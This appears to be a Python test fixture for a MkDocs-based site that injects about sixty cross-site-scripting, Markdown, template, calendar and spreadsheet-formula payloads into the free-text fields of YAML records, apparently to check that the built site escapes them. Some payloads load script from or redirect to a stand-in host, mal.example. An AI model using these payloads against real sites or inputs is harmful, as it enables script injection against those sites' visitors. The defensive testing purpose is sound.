"""Hostile text for records: sixty-odd ways to become markup, script, an address or a formula, put into every field."""

from __future__ import annotations

from itertools import cycle
from typing import TYPE_CHECKING, Any

import yaml

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

PAYLOADS = (
    # elements that run something
    "<script>alert(document.domain)</script>",
    "<SCRIPT SRC=//mal.example/x.js></SCRIPT>",
    "</script><script>alert(document.domain)</script>",
    "</ScRiPt ><svg onload=alert(document.domain)>",
    "<img src=x onerror=alert(document.domain)>",
    "<img/src/onerror=alert(document.domain)>",
    "<svg><animate onbegin=alert(document.domain) attributeName=x></svg>",
    "<svg><script>alert(document.domain)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(document.domain)>",
    "<iframe src=javascript:alert(document.domain)></iframe>",
    "<iframe srcdoc='<script>parent.x</script>'></iframe>",
    "<object data=javascript:alert(document.domain)></object>",
    "<embed src=javascript:alert(document.domain)>",
    "<details open ontoggle=alert(document.domain)>",
    "<body onload=alert(document.domain)>",
    "<input autofocus onfocus=alert(document.domain)>",
    "<video><source onerror=alert(document.domain)></video>",
    "<marquee onstart=alert(document.domain)>",
    "<base href=//mal.example/>",
    "<meta http-equiv=refresh content='0;url=//mal.example/'>",
    "<link rel=stylesheet href=//mal.example/x.css>",
    "<style>@import '//mal.example/x.css'</style>",
    "<form action=//mal.example/><button>sigue</button></form>",
    "<template shadowrootmode=open><script>x</script></template>",
    "<noscript><p title='</noscript><img src onerror=x>'></noscript>",
    "<ruta-checklist onclick=x></ruta-checklist>",
    # ends of what the text may stand in
    "'\"><script>alert(document.domain)</script>",
    '" onmouseover="alert(document.domain)',
    "' onmouseover='alert(document.domain)",
    "` onmouseover=`alert(document.domain)",
    '" style="background:url(//mal.example/)',
    "--><script>x</script><!--",
    "<!--<script>",
    "]]><script>x</script>",
    "</title><script>x</script>",
    "</textarea><script>x</script>",
    "</style><script>x</script>",
    "</template><script>x</script>",
    '\\"};alert(document.domain);//',
    "\\u003cscript\\u003ealert(document.domain)\\u003c/script\\u003e",
    "\u2028alert(document.domain)\u2029",
    "<\u0000script>x".replace("\u0000", "\u200b"),
    # entities that a second reading would turn into markup
    "&lt;script&gt;alert(document.domain)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(document.domain)&#x3c;/script&#x3e;",
    "&amp;lt;img src=x onerror=x&amp;gt;",
    "&quot; onclick=&quot;x",
    # Markdown and its extensions
    "[pulsa](javascript:alert(document.domain))",
    "[pulsa](JaVaScRiPt:alert(document.domain))",
    "[pulsa](data:text/html,<script>x</script>)",
    "[pulsa](vbscript:x)",
    "![x](//mal.example/x.png)",
    "<javascript:alert(document.domain)>",
    "<https://mal.example/>",
    "[pulsa][mal] [mal]: javascript:x",
    "# Titular {: onclick=x }",
    "{: #mal .mal onclick=x }",
    "**negrita** _cursiva_ `codigo` ~~no~~",
    "| a | b |",
    "!!! danger 'x'",
    '<div data-held="0"></div>',
    # templates
    "{{ config }} {% raw %} {# x #}",
    "${alert(document.domain)} #{x} <%= x %>",
    # what a calendar, a feed or a spreadsheet might take for its own
    "BEGIN:VEVENT;X=y:z,END:VEVENT",
    "\\nATTACH:javascript:x\\;\\,",
    '=HYPERLINK("//mal.example")',
    "@SUM(A:A)",
)  # fmt: skip

PLAIN = {
    "unit",
    "hs",
    "currency",
    "base",
    "languages",
    "blocs",
    "address",
    "pages",
    "region",
    "term",
    "also",
    "unverified",
}
"""Fields that are text in the model and yet no free words: units, codes and the site's own addresses."""


def infect(data: Path, schemas: dict[str, dict[str, Any]]) -> int:
    """Append a payload to each free text of each record under ``data``; give how many."""
    payloads = cycle(PAYLOADS)
    count = 0
    for file in sorted(data.rglob("*.yaml")):
        kind = file.relative_to(data).parts[0]
        if kind not in schemas:
            continue
        record = yaml.load(file.read_text("utf-8"), Loader=yaml.CBaseLoader)  # noqa: S506 - text alone
        for holder, key in list(texts(record, schemas[kind], schemas[kind])):
            payload = next(payloads)
            while holder_counts_figures(kind) and any(sign.isdigit() for sign in payload):
                payload = next(payloads)
            # a formula is one only at the start
            holder[key] = f"{payload} {holder[key]}" if payload[0] in "=@" else f"{holder[key]} {payload}"
            count += 1
        file.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False, width=10**6), "utf-8")
    return count


def holder_counts_figures(kind: str) -> bool:
    """Whether a figure in the words of this kind needs a fact beside it."""
    return kind in {"requirements", "checklists", "countries"}


def texts(value: Any, node: dict[str, Any], root: dict[str, Any]) -> Iterator[tuple[Any, Any]]:  # noqa: ANN401 - YAML
    """Give the holder and the key of every free text, as the schema tells it."""
    node = resolved(value, node, root)
    rows = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in rows:
        if isinstance(value, dict):
            below = node.get("properties", {}).get(key) or node.get("additionalProperties") or {}
        else:
            below = node.get("items", {})
        if key in PLAIN or not isinstance(below, dict):
            continue
        if isinstance(inner, str):
            if {"anyOf", "oneOf"} & set(below):
                continue  # an id, a number or a rough day
            below = resolved(inner, below, root)
            closed = {"enum", "pattern", "format", "const"} & set(below)
            free = "string" in below.get("type", ()) and not closed
            if free and inner.strip() and not str(key).endswith(("url", "source")):
                yield value, key
        else:
            yield from texts(inner, below, root)


def resolved(value: object, node: dict[str, Any], root: dict[str, Any]) -> dict[str, Any]:
    """Follow references, and take the branch of a union that the value is of."""
    while "$ref" in node:
        node = root["$defs"][node["$ref"].rsplit("/", 1)[1]]
    branches = [resolved(value, one, root) for one in (*node.get("anyOf", ()), *node.get("oneOf", ()))]
    if not branches:
        return node
    wanted = "object" if isinstance(value, dict) else "array" if isinstance(value, list) else "string"
    return next((one for one in branches if wanted in one.get("type", "")), {})


SETTINGS = """\
INHERIT: {root}/mkdocs.yml
docs_dir: {root}/content
theme: {{custom_dir: {root}/theme/overrides}}
plugins: [ruta: {{data_dir: data}}]
watch: []
"""
"""A site from other records, with all else as it is."""
